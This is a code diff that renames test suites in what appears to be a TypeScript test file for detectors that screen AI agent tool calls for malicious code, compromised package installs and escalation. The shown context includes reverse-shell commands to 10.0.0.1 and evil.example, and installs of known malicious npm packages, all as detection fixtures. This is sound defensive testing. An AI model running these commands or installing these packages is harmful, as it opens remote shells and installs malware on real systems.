@@ -12,7 +12,7 @@ const input = (tool: string, args: JsonObject) => {
 const code = (content: string, tool = 'write_file') => detectMaliciousCode(input(tool, { path: 'x', content }));
 const install = (command: string, tool = 'execute_command') => detectCompromisedPackage(input(tool, { command }));
 
-describe('brain sheet 6: malicious code in what a tool would write', () => {
+describe('malicious code in what a tool would write', () => {
   it.each([
     ['reverse_shell', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
     ['reverse_shell', 'exec 5<>/dev/tcp/evil.example/80'],
@@ -76,7 +76,7 @@ describe('brain sheet 6: malicious code in what a tool would write', () => {
   });
 });
 
-describe('brain sheet 6: compromised packages in what a shell would install', () => {
+describe('compromised packages in what a shell would install', () => {
   it.each([
     'npm install crossenv',
     'npm i --save flatmap-stream@0.1.1',
@@ -133,7 +133,7 @@ describe('brain sheet 6: compromised packages in what a shell would install', ()
   });
 });
 
-describe('brain sheet 6: escalation over a sequence of calls', () => {
+describe('escalation over a sequence of calls', () => {
   const calls = (...tools: string[]) => tools.map((tool) => ({ method: 'call_tool', tool }));
   const reads = calls('read_file', 'list_files', 'get_balance');
 
